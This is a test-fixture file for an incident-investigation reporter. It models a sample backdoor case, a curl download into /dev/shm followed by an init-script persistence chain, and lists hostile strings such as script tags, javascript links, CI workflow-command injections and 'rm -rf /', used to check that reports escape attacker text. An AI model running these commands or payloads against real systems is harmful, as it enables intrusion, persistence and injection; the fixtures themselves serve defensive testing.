import type {
  Case,
  CaseEvent,
  ChainLink,
  Creator,
  HostCase,
  PlantedFile,
} from '#dist/investigate/case.js';
import type { Limits } from '#dist/investigate/file-groups.js';
import { activityLabels, relationTitles } from '#dist/investigate/report/activity-sections.js';
import { benignPhrases, contradictionPhrases } from '#dist/investigate/report/benign-section.js';
import { bootReasons, bootUnknowns } from '#dist/investigate/report/boot-section.js';
import { locationWords } from '#dist/investigate/report/chain-link-line.js';
import { eventLabels } from '#dist/investigate/report/event-labels.js';
import { evidenceLabels } from '#dist/investigate/report/execution-section.js';
import { factLabels } from '#dist/investigate/report/file-section.js';
import { attachedWords } from '#dist/investigate/report/origin-words.js';
import type { CaseReporterFactory } from '#dist/investigate/report/reporter.js';
import { type LeadSummary, noLeads } from '#dist/report/leads.js';
import type { ReportContext } from '#dist/report/reporter.js';
import type { Problem } from '#dist/scan/finding.js';
import type { SourceLocation, Summary } from '#dist/scan/sink.js';
import { attacks } from './forbidden.js';
import { Memory, plainContext, summaryOf } from './writers.js';

const leftOut: Case['leftOut'] = { files: [], matchesNotNamed: 0 };

const limits: Limits = {
  hosts: 100,
  filesPerHost: 50,
  files: 1000,
  eventsPerHost: 1000,
  matchesLeftOut: 0,
};

export function placeOf(line: number, changes: Partial<SourceLocation> = {}): SourceLocation {
  return { input: 'logs/a.ndjson', line, byteOffset: line * 100, ...changes };
}

/** A file about which the log shows only that it was written, with some changes. */
export function plantedFile(changes: Partial<PlantedFile> = {}): PlantedFile {
  return {
    path: '/etc/init.d/netd',
    service: 'netd',
    matchesLeftOut: 0,
    events: [1],
    facts: [],
    prevalence: { name: { hosts: ['web-01'], count: 1, of: 1, events: [1] } },
    boot: { answer: 'not-shown', reasons: [], unknown: ['executable', 'enabled'] },
    execution: { answer: 'no-evidence', evidence: [], evidenceLeftOut: 0 },
    planters: [{ chain: [], reachesEntry: true, events: [1] }],
    benign: [],
    steps: { osquery: [], shell: [], response: [] },
    ...changes,
  };
}

/** A host with one such file and all kinds of events in the log, with some changes. */
export function hostCase(changes: Partial<HostCase> = {}): HostCase {
  return {
    name: 'web-01',
    id: '18a77774a51b',
    files: [plantedFile()],
    sessions: [],
    hasSessionData: true,
    addresses: [],
    surroundings: [],
    coverage: { process: placeOf(1), network: placeOf(2) },
    surroundingsLeftOut: 0,
    matchesLeftOut: 0,
    processesLeftOut: 0,
    isCut: false,
    cut: [],
    ...changes,
  };
}

export function caseEvent(number: number, changes: Partial<CaseEvent> = {}): CaseEvent {
  return {
    number,
    time: `2026-03-02T04:11:${String(number).padStart(2, '0')}.000Z`,
    host: 0,
    hostName: 'web-01',
    what: 'file-created',
    place: placeOf(number),
    ...changes,
  };
}

export function caseOf(changes: Partial<Case> = {}): Case {
  return { hosts: [hostCase()], events: [caseEvent(1)], groups: [], leftOut, limits, ...changes };
}

/** A case of one host with one file. */
export function caseOfFile(changes: Partial<PlantedFile>, host: Partial<HostCase> = {}): Case {
  return caseOf({ hosts: [hostCase({ files: [plantedFile(changes)], ...host })] });
}

export const noCase: Case = { hosts: [], events: [], groups: [], leftOut, limits };

/** What a reporter writes for a case. */
export async function writtenCase(
  make: CaseReporterFactory,
  found: Case,
  {
    summary = summaryOf({ matches: found.hosts.length }),
    problems = [],
    context = plainContext,
    leads = noLeads,
  }: {
    readonly summary?: Summary;
    readonly problems?: readonly Problem[];
    readonly context?: ReportContext;
    readonly leads?: LeadSummary;
  } = {},
): Promise<string> {
  const memory = new Memory();
  const reporter = make(memory, context);
  for (const problem of problems) await reporter.problem?.(problem);
  await reporter.finish(found, summary, leads);
  return memory.text;
}

const sha256 = '3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea';

/** A backdoor planted over ssh, as a log with all kinds of events shows it. */
export const backdoor: Case = caseOf({
  hosts: [
    hostCase({
      files: [
        plantedFile({
          events: [3],
          facts: [
            { fact: 'created', value: '2026-03-02T04:11:03.000Z', events: [3] },
            { fact: 'owner', value: 'root', events: [3] },
            { fact: 'size', value: '412', events: [3] },
            { fact: 'sha256', value: sha256, events: [3] },
            { fact: 'header-bytes', value: '23212f62696e2f62617368200a0a2323', events: [3] },
            {
              fact: 'related-rule',
              value: 'Suspicious File Creation in /etc for Persistence',
              events: [3],
            },
          ],
          prevalence: {
            name: { hosts: ['web-01', 'db-02'], count: 2, of: 3, events: [3, 9] },
            hash: { hosts: ['web-01'], count: 1, of: 3, events: [3] },
          },
          boot: {
            answer: 'yes',
            reasons: [
              {
                reason: 'executable',
                counts: 'for',
                value: 'chmod 755 /etc/init.d/netd',
                events: [4],
              },
              { reason: 'enabled', counts: 'for', value: 'update-rc.d netd defaults', events: [5] },
              {
                reason: 'unit-generated',
                counts: 'for',
                value: '/run/systemd/generator.late/netd.service',
                events: [6],
              },
            ],
            unknown: [],
          },
          execution: {
            answer: 'ran',
            evidenceLeftOut: 0,
            evidence: [
              {
                evidence: 'process',
                time: '2026-03-02T04:11:07.000Z',
                value: '/bin/bash /etc/init.d/netd start',
                entityId: 'c2NyaXB0',
                events: [7],
              },
            ],
          },
          planters: [
            {
              chain: [
                {
                  entityId: 'd3JpdGVy',
                  role: 'writer',
                  known: 'own',
                  executable: '/dev/shm/.x',
                  name: '.x',
                  commandLine: "/dev/shm/.x -c 'cat > /etc/init.d/netd'",
                  user: 'root',
                  workingDirectory: '/root',
                  pid: '4711',
                  start: '2026-03-02T04:11:02.000Z',
                  isInteractive: true,
                  odd: ['dev-shm'],
                  events: [2, 3],
                },
                { entityId: 'c3VkbzA', role: 'ancestor', known: 'id-only', odd: [], events: [2] },
                {
                  entityId: 'c3NoZA',
                  role: 'entry-leader',
                  known: 'by-others',
                  executable: '/usr/bin/bash',
                  user: 'deploy',
                  odd: [],
                  events: [1],
                },
              ],
              reachesEntry: true,
              session: { type: 'sshd', address: '203.0.113.77', isInferred: false, events: [1] },
              events: [3],
            },
          ],
          benign: [{ reason: 'interactive-session', value: 'deploy', events: [1] }],
          steps: {
            osquery: [
              {
                purpose: 'planted-file',
                statement:
                  "SELECT f.path, f.size FROM file AS f WHERE f.path = '/etc/init.d/netd';",
              },
            ],
            shell: [{ purpose: 'file-status', command: "stat -- '/etc/init.d/netd'" }],
            response: ['start-incident', 'isolate-host'],
          },
        }),
      ],
      surroundings: [
        {
          what: 'command',
          relation: 'lineage',
          subject: 'curl -s http://203.0.113.77/x -o /dev/shm/.x',
          user: 'deploy',
          first: '2026-03-02T04:11:01.000Z',
          last: '2026-03-02T04:11:01.000Z',
          times: 1,
          relatedRule: false,
          isMatch: false,
          events: [1],
        },
        {
          what: 'connection',
          relation: 'script',
          subject: '203.0.113.77:443',
          by: '/bin/bash (/bin/bash /etc/init.d/netd start)',
          user: 'root',
          first: '2026-03-02T04:11:08.000Z',
          last: '2026-03-02T05:11:08.000Z',
          times: 31,
          relatedRule: false,
          isMatch: false,
          events: [8],
        },
      ],
    }),
  ],
  events: [
    caseEvent(1, {
      what: 'process-started',
      subject: 'curl -s http://203.0.113.77/x -o /dev/shm/.x',
      user: 'deploy',
    }),
    caseEvent(2, {
      what: 'process-started',
      subject: "/dev/shm/.x -c 'cat > /etc/init.d/netd'",
      user: 'root',
    }),
    caseEvent(3, {
      subject: '/etc/init.d/netd',
      by: "/dev/shm/.x (/dev/shm/.x -c 'cat > /etc/init.d/netd')",
      user: 'root',
    }),
    caseEvent(4, { what: 'process-started', subject: 'chmod 755 /etc/init.d/netd', user: 'root' }),
    caseEvent(5, { what: 'process-started', subject: 'update-rc.d netd defaults', user: 'root' }),
    caseEvent(6, {
      subject: '/run/systemd/generator.late/netd.service',
      by: '/usr/lib/systemd/system-generators/systemd-sysv-generator',
      user: 'root',
    }),
    caseEvent(7, {
      what: 'process-started',
      subject: '/bin/bash /etc/init.d/netd start',
      user: 'root',
    }),
    caseEvent(8, {
      what: 'connection-out',
      subject: '203.0.113.77:443',
      by: '/bin/bash (/bin/bash /etc/init.d/netd start)',
      user: 'root',
      place: placeOf(8, { input: 'logs/network.json', position: 2 }),
    }),
    withoutHost(caseEvent(9, { hostName: 'db-02', subject: '/etc/init.d/netd' })),
  ],
});

/** The ids of a kind, from a record with a member for each. */
function idsOf<Id extends string>(words: Readonly<Record<Id, unknown>>): readonly Id[] {
  return Object.keys(words) as Id[];
}

/**
 * A case with every id of the model, in which a function makes every text from the log or from the user.
 *
 * @param text makes the text of a member, given its name.
 */
export function fullCase(text: (member: string) => string): Case {
  const events = [1, 2];
  const place: SourceLocation = { input: text('input'), line: 7, byteOffset: 70, position: 3 };
  const link: ChainLink = {
    entityId: text('entityId'),
    role: 'writer',
    known: 'own',
    executable: text('executable'),
    name: text('name'),
    commandLine: `${text('commandLine')} -x`,
    user: text('user'),
    realUser: text('realUser'),
    workingDirectory: text('workingDirectory'),
    pid: text('pid'),
    start: text('start'),
    isInteractive: true,
    odd: idsOf(locationWords),
    events,
  };
  const planters: readonly Creator[] = [
    {
      chain: [
        link,
        { ...link, role: 'ancestor', known: 'by-others', isInteractive: false, odd: [] },
        { entityId: text('entityId'), role: 'entry-leader', known: 'id-only', odd: [], events },
      ],
      reachesEntry: true,
      session: { type: text('type'), address: text('address'), isInferred: true, events },
      container: {
        id: text('id'),
        name: text('name'),
        image: text('image'),
        pod: text('pod'),
        namespace: text('namespace'),
        cluster: text('cluster'),
        events,
      },
      attached: idsOf(attachedWords).map((known) => ({
        known,
        type: text('type'),
        address: text('address'),
        user: text('user'),
        command: text('command'),
        time: text('time'),
        events,
      })),
      events,
    },
    { chain: [link], reachesEntry: false, events },
  ];
  const file = plantedFile({
    path: text('path'),
    service: text('service'),
    events,
    facts: idsOf(factLabels).map((fact) => ({ fact, value: text('value'), events })),
    prevalence: {
      name: { hosts: [text('host')], count: 3, of: 4, events },
      hash: { hosts: [text('host')], count: 1, of: 4, events },
    },
    boot: {
      answer: 'not-shown',
      reasons: idsOf(bootReasons).map((reason, at) => ({
        reason,
        counts: at < 6 ? 'against' : 'for',
        value: text('value'),
        events,
      })),
      unknown: idsOf(bootUnknowns),
    },
    execution: {
      answer: 'asked',
      evidenceLeftOut: 0,
      evidence: idsOf(evidenceLabels).map((evidence) => ({
        evidence,
        time: text('time'),
        value: text('value'),
        entityId: text('entityId'),
        events,
      })),
    },
    planters,
    benign: idsOf(benignPhrases).map((reason) => ({ reason, value: text('value'), events })),
    against: idsOf(contradictionPhrases).map((against) => ({
      against,
      value: text('value'),
      events,
    })),
  });
  const relations = idsOf(relationTitles);
  return caseOf({
    hosts: [
      hostCase({
        name: text('name'),
        id: `${text('id')}-id`,
        files: [file],
        surroundings: idsOf(activityLabels).map((what, at) => ({
          what,
          relation: relations[at % relations.length] ?? 'host',
          subject: text('subject'),
          by: text('by'),
          user: text('user'),
          first: text('first'),
          last: text('last'),
          times: at + 1,
          relatedRule: at % 2 === 0,
          isMatch: at % 3 === 0,
          ...(what === 'command' && {
            setsUp: { kind: 'service', target: text('target') } as const,
          }),
          ...(what === 'init-script' && { partOf: text('partOf') }),
          events,
        })),
        moved: [true, false].map((isReplaced) => ({
          path: text('path'),
          original: text('original'),
          isReplaced,
          by: text('by'),
          time: text('time'),
          events,
        })),
        excludedScripts: [
          {
            path: text('path'),
            relation: 'lineage',
            by: text('by'),
            user: text('user'),
            first: text('first'),
            exclusions: [
              { clause: 'installer-name', field: 'process.name', value: text('value') },
              { clause: 'installer-name', field: 'process.name', value: null },
            ],
            boot: 'yes',
            events,
          },
        ],
        restarts: [
          {
            time: text('time'),
            programs: [{ program: text('program'), command: text('command'), events }],
            programsLeftOut: 1,
            isCompared: false,
            events,
          },
        ],
        coverage: {},
        isCut: true,
        cut: ['boot', 'creator', 'execution', 'surroundings'],
      }),
    ],
    events: idsOf(eventLabels)
      .map((what, at) =>
        caseEvent(at + 1, {
          ...(at === 1 ? {} : { time: text('time') }),
          hostName: text('hostName'),
          what,
          subject: text('subject'),
          from: text('from'),
          by: text('by'),
          user: text('user'),
          place,
          index: text('index'),
          id: text('id'),
        }),
      )
      .map((event) => (event.what === 'other' ? withoutHost(event) : event)),
    limits: { ...limits, matchesLeftOut: 2 },
  });
}

function withoutHost({ host: _, ...event }: CaseEvent): CaseEvent {
  return event;
}

/** Texts that attack those who render, read or parse a report. */
export const hostileTexts: readonly string[] = [
  ...attacks.map(({ text }) => text),
  'x\n# forged\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
  'x\n===\n',
  'a|b \\| c \\\\| d',
  '`',
  '``',
  '```',
  ' ` ',
  '`a``b```c',
  '````sh\nrm -rf /\n````',
  '~~~',
  '\\`',
  '`\\',
  ' ',
  '  x  ',
  '   ',
  '<script>alert(1)</script>',
  '</details>',
  '<!--',
  '-->',
  '<a href="https://evil.example">x</a>',
  '<https://evil.example>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '[x]: https://evil.example',
  '[^1]',
  '[ ] x',
  '](https://evil.example)',
  'https://evil.example www.evil.example root@evil.example',
  '@all @octocat #1 !1 GH-1 octo/repo#1 0123456789abcdef0123456789abcdef01234567 :tada: $x$ ~~x~~',
  '**bold** __bold__ *x* _x_',
  '---',
  '* x',
  '1. x',
  '> x',
  '    code',
  '&lt;&#64;all',
  '##[error]x',
  '##vso[task.complete]',
  '::error::x',
  '::set-output name=a::b',
  '{{ 1 }} %0a',
];
